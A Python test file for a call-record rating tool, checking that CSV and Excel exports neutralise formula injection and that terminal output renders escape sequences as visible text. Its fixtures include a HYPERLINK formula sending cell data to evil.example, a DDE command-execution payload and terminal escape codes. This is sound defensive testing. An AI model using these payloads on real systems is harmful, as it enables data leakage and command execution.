"""Text from outside has no effect: in no terminal, no spreadsheet, no markup (identifiers have no control characters)."""

import csv
import json
import re
from collections.abc import Mapping
from io import StringIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rich.console import Console

from rater.cli.top import drawn
from rater.ops.top.picture import picture_of
from rater.wire.visible import visible, visible_lines
from tests.agents.world import balance
from tests.commands import rater
from tests.embedded.usage import HEADER, row, run

CALL = {
    "tenant": "contoso",
    "type": "user_out",
    "answered_at": "2025-03-01T10:00:00Z",
    "duration_s": 60,
    "user": "ada@contoso.example",
    "called": "+12065550100",
}
FORMULAS = {
    "user_display_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "destination": "=cmd|'/c calc'!A1",
    "call_id": "@SUM(1+1)",
    "conference_id": "-2+3",
}
ESCAPES = {
    "destination": "\x1b]0;PWNED\x07\x1b[2J",
    "user_display_name": "a\x9b31m\u202eb\u200b",
    "call_id": "c\r\nd\x00",
}


def calls(folder: Path, *records: Mapping[str, object]) -> None:
    (folder / "cdrs.jsonl").write_text("".join(json.dumps({**CALL, **record}) + "\n" for record in records))


def test_a_formula_is_text_in_csv_and_excel(folder: Path) -> None:
    """In CSV behind an apostrophe, in Excel a cell of text; numbers of callers stay numbers to be dialled."""
    calls(folder, {"usage_id": "=1+1"} | FORMULAS)
    run(folder, "cdrs.jsonl")
    assert rater("export", "usage", "--out", "u.csv", cwd=folder).returncode == 0
    with (folder / "u.csv").open(newline="") as lines:
        (row,) = csv.DictReader(lines)
    assert row["UsageId"] == "'=1+1"
    assert row["User Display Name"] == "'" + FORMULAS["user_display_name"]
    assert (row["Call ID"], row["Conference ID"]) == ("'@SUM(1+1)", "'-2+3")
    assert row["Destination Number"] == "+12065550100"
    assert not [cell for cell in row.values() if cell[:1] in ("=", "@", "-")]
    assert rater("export", "usage", "--format", "xlsx", "--out", "u.xlsx", cwd=folder).returncode == 0
    sheet = load_workbook(folder / "u.xlsx").active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells if str(cell.value)[:1] in "=@-+"} == {"s"}
    (line,) = rater("export", "usage", "--format", "jsonl", cwd=folder).stdout.splitlines()
    assert json.loads(line)["UsageId"] == "=1+1"


#: A name, and its cell in an export as CSV.
APOSTROPHES = {
    "=1+1": "'=1+1",
    "'=1+1": "''=1+1",
    "''=1+1": "'''=1+1",
    "'-2+3": "''-2+3",
    "O'Brien": "O'Brien",
    "'quoted'": "'quoted'",
    "+14255550100": "+14255550100",
    "'+14255550100": "''+14255550100",
}


def test_one_apostrophe_is_removed_to_read_a_text_back(folder: Path) -> None:
    """A text that had apostrophes itself gets one more, so that it is not mixed up with one that we guarded."""
    calls(folder, *[{"usage_id": str(n), "user_display_name": text} for n, text in enumerate(APOSTROPHES)])
    run(folder, "cdrs.jsonl")
    rater("export", "usage", "--out", "u.csv", cwd=folder, code=0)
    with (folder / "u.csv").open(newline="") as lines:
        cells = [row["User Display Name"] for row in csv.DictReader(lines)]
    assert cells == [*APOSTROPHES.values()]
    assert [re.sub(r"^'(?='*[=+\-@\t\r])", "", cell) for cell in cells] == [*APOSTROPHES]


@pytest.mark.parametrize(
    "words",
    [
        ("show", "calls", "contoso"),
        ("show", "tenant", "contoso"),
        ("explain", "e"),
        ("dlq", "ls"),
        ("dlq", "show", "REFUSED"),
    ],
    ids=" ".join,
)
def test_no_terminal_obeys_a_record(folder: Path, words: tuple[str, ...]) -> None:
    """Escapes, C1 controls and overrides of direction are shown as their numbers, in what was refused, too."""
    refused = {"usage_id": "bad\x1b[2J", "called": "\x1b]0;PWNED\x07"}
    calls(folder, {"usage_id": "e"} | ESCAPES, refused)
    done = rater("run", "cdrs.jsonl", "--commands", "setup.jsonl", "--deck", "deck.csv", cwd=folder)
    assert_harmless(done.stdout + done.stderr)
    (letter,) = json.loads(rater("dlq", "ls", "--json", cwd=folder).stdout)
    shown = rater(*[letter["id"] if word == "REFUSED" else word for word in words], cwd=folder)
    assert shown.returncode == 0
    assert_harmless(shown.stdout + shown.stderr)


def test_rows_of_csv_that_are_refused_are_shown_harmless(folder: Path) -> None:
    """There the bytes of a record are no JSON: an escape stands in them as it is."""
    refused = row("a\x1b[2Jb", number="\x1b]0;PWNED\x07")
    (folder / "usage.csv").write_text(f"{HEADER}\n{refused}\n")
    done = rater("run", "usage.csv", "--tenant", "contoso", cwd=folder)
    assert_harmless(done.stdout + done.stderr)
    (letter,) = json.loads(rater("dlq", "ls", "--json", cwd=folder).stdout)
    shown = rater("dlq", "show", letter["id"], cwd=folder).stdout
    assert_harmless(shown)
    assert r"a\x1b[2Jb" in shown


def assert_harmless(text: str) -> None:
    """Nothing in it but lines of signs that can be seen."""
    assert text == visible_lines(text)


def test_top_shows_names_and_not_markup() -> None:
    """A tenant named like rich's markup, or with an override of direction, is shown as it is written."""
    out = StringIO()
    name = "[bold red]x[/bold red]\u202e"
    picture = picture_of([], {name: balance(tenant=name, balance="-1")})
    Console(file=out, width=200, force_terminal=False).print(drawn(picture))
    assert r"[bold red]x[/bold red]\u202e" in out.getvalue()


def test_what_is_visible() -> None:
    """Letters of every script stay; what a terminal obeys or hides is its number."""
    assert visible("Ünïcode 电话 +1") == "Ünïcode 电话 +1"
    assert visible("\x1b[2J\n\x9b\u200b\u2066\udc80") == r"\x1b[2J\x0a\x9b\u200b\u2066\udc80"
    assert visible_lines("a\nb\r") == "a\nb\\x0d"
